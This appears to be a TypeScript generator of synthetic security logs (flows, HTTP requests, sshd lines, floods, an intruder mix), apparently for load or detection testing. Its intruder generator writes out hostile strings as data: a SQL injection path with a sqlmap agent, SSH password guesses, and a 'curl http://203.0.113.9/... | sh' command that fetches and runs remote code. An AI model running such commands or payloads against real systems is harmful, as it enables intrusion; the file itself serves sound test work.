import { type Random, random } from '../../core/learning/random.ts'
import type { Batch } from './load.ts'

/** Public addresses in 20.0.0.0 to 83.255.255.255, a different one for each n from 0 to 2^30 - 1. They are text only: nothing is sent to them. */
export function addressOf(n: number): string {
  // Times an odd number: neighbours in n lie far apart, none meet.
  const spread = Math.imul(n, 0x2545f491) & 0x3fff_ffff
  return `${20 + (spread >>> 24)}.${(spread >>> 16) & 255}.${(spread >>> 8) & 255}.${spread & 255}`
}

/** One log line without its time: text before it and text after it. */
interface Line {
  before: string
  after: string
}

export type LineMaker = (source: number, draw: Random) => Line

const USERS = ['root', 'admin', 'ubuntu', 'oracle', 'git', 'postgres', 'test', 'deploy', 'backup', 'pi']
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'curl/8.14.1',
  'Go-http-client/2.0',
]
const pick = <Item>(draw: Random, items: readonly Item[]): Item => items[draw.below(items.length)]!

/** One source in a hundred guesses passwords; the others log in. */
const isGuessing = (source: number): boolean => source % 100 === 0

/** Canonical events: half flows, three in ten HTTP requests, two in ten log-ins over SSH. */
export const canonicalMix: LineMaker = (source, draw) => {
  const kind = draw.below(10)
  const event =
    kind < 5
      ? flow(draw)
      : kind < 8
        ? request(draw)
        : {
            event_type: isGuessing(source) ? 'ssh.login.failed' : 'ssh.login.success',
            proto: 'tcp',
            service: 'ssh',
            dst_port: 22,
            username: isGuessing(source) ? pick(draw, USERS) : 'deploy',
          }
  const rest = JSON.stringify({
    src_ip: addressOf(source),
    src_port: 1024 + draw.below(64_000),
    dst_ip: `198.51.100.${1 + draw.below(200)}`,
    ...event,
  })
  return { before: '{"ts":"', after: `",${rest.slice(1)}` }
}

function flow(draw: Random) {
  const port = pick(draw, [443, 443, 443, 80, 53, 8443, 25])
  return {
    event_type: 'flow',
    proto: port === 53 ? 'udp' : 'tcp',
    dst_port: port,
    bytes_out: 200 + draw.below(4_000),
    bytes_in: 500 + draw.below(60_000),
    pkts_out: 4 + draw.below(30),
    pkts_in: 4 + draw.below(50),
    duration_s: draw.below(20_000) / 1000,
    tcp_state: 'SF',
  }
}

function request(draw: Random) {
  return {
    event_type: 'http.request',
    proto: 'tcp',
    service: 'http',
    dst_port: 443,
    bytes_in: 300 + draw.below(30_000),
    http: {
      method: 'GET',
      host: 'shop.example',
      path: `/articles/${draw.below(5_000)}`,
      status: pick(draw, [200, 200, 200, 304, 404]),
      user_agent: pick(draw, AGENTS),
    },
  }
}

/** A flood's packet: one, to one of 16 targets, without an answer. */
export const floodPacket: LineMaker = (source, draw) => {
  const rest = JSON.stringify({
    src_ip: addressOf(source),
    src_port: 1024 + draw.below(64_000),
    dst_ip: `198.51.100.${1 + draw.below(16)}`,
    event_type: 'flow',
    proto: 'tcp',
    dst_port: 80,
    bytes_out: 60,
    bytes_in: 0,
    pkts_out: 1,
    pkts_in: 0,
    tcp_state: 'S0',
  })
  return { before: '{"ts":"', after: `",${rest.slice(1)}` }
}

/** auth.log with ISO stamps: of the ordinary sources log-ins by key and their ends, of one in a hundred guesses. */
export const sshdMix: LineMaker = (source, draw) => {
  const address = addressOf(source)
  const port = 1024 + draw.below(64_000)
  const message = isGuessing(source)
    ? `Failed password for ${draw.below(2) ? 'invalid user ' : ''}${pick(draw, USERS)} from ${address} port ${port} ssh2`
    : `Accepted publickey for deploy from ${address} port ${port} ssh2: ED25519 SHA256:k1K7mZ0Zr3bXK2m7vQ5m3nYk6n3o1Zb6f8s9t0u1v2w`
  return { before: '', after: ` gate-${draw.below(3)} sshd[${1000 + draw.below(60_000)}]: ${message}` }
}

/** Failed log-ins of one source only. */
export const failedLogin: LineMaker = (source, draw) => ({
  before: '',
  after: ` gate-0 sshd[${1000 + draw.below(60_000)}]: Failed password for ${draw.below(2) ? 'invalid user ' : ''}${pick(draw, USERS)} from ${addressOf(source)} port ${1024 + draw.below(64_000)} ssh2`,
})

/** An intruder who scans, guesses, attacks the web server and runs commands: more kinds of event than a sample tells apart. */
export const intruder: LineMaker = (source, draw) => {
  const path = `/wp-content/plugins/p${draw.below(90)}/readme.txt?id=${draw.below(90_000)}%27%20OR%201%3D1`
  const web = (status: number) => ({
    event_type: 'http.request',
    service: 'http',
    dst_port: 80,
    http: { method: 'GET', host: 'shop.example', path, status, user_agent: 'sqlmap/1.8' },
  })
  const seen = (tcp_state: string) => ({
    event_type: 'flow',
    dst_port: 1 + draw.below(9_000),
    tcp_state,
    bytes_out: 60,
    pkts_out: 1,
    pkts_in: 0,
  })
  const guess = { service: 'ssh', dst_port: 22, username: pick(draw, USERS), password: `p${draw.below(9_000)}` }
  const event = pick(draw, [
    web(200),
    web(302),
    web(404),
    web(500),
    seen('S0'),
    seen('REJ'),
    seen('RSTO'),
    seen('SF'),
    { event_type: 'ssh.login.failed', ...guess },
    { event_type: 'ssh.login.success', ...guess },
    { event_type: 'command', service: 'ssh', command: `curl http://203.0.113.9/x${draw.below(900)} | sh` },
    { event_type: 'alert', alert: { signature: `ET SCAN ${draw.below(50)}`, category: 'scan', severity: 2 } },
    {
      event_type: 'dns.query',
      service: 'dns',
      dst_port: 53,
      dns: { query: `h${draw.below(9_000)}.example`, qtype: 'A' },
    },
  ])
  const rest = JSON.stringify({
    src_ip: addressOf(source),
    src_port: 1024 + draw.below(64_000),
    dst_ip: `198.51.100.${1 + draw.below(20)}`,
    proto: 'tcp',
    ...event,
  })
  return { before: '{"ts":"', after: `",${rest.slice(1)}` }
}

/** RFC 3339 with milliseconds and offset: JSON and rsyslog both take it. */
const stamp = (ms: number): string => new Date(ms).toISOString().replace('Z', '+00:00')

/** Lines whose times are spread over the second that ends now, oldest first. */
export function batchOf(lines: readonly Line[], now: number): Batch {
  let body = ''
  lines.forEach(({ before, after }, i) => {
    body += `${before}${stamp(now - 1000 + Math.floor(((i + 1) / lines.length) * 1000))}${after}\n`
  })
  return { body, events: lines.length }
}

/**
 * Batches of `size` lines of sources drawn evenly. Made ahead, so that making them costs the two cores little; the times
 * are put in when a batch is sent. After `made` batches the same lines come again, with new times.
 */
export function traffic(maker: LineMaker, sourceOf: (draw: Random) => number, size: number, made: number, seed = 1) {
  const draw = random(seed)
  const ready = Array.from({ length: made }, () => Array.from({ length: size }, () => maker(sourceOf(draw), draw)))
  return (n: number): Batch => batchOf(ready[n % made]!, Date.now())
}
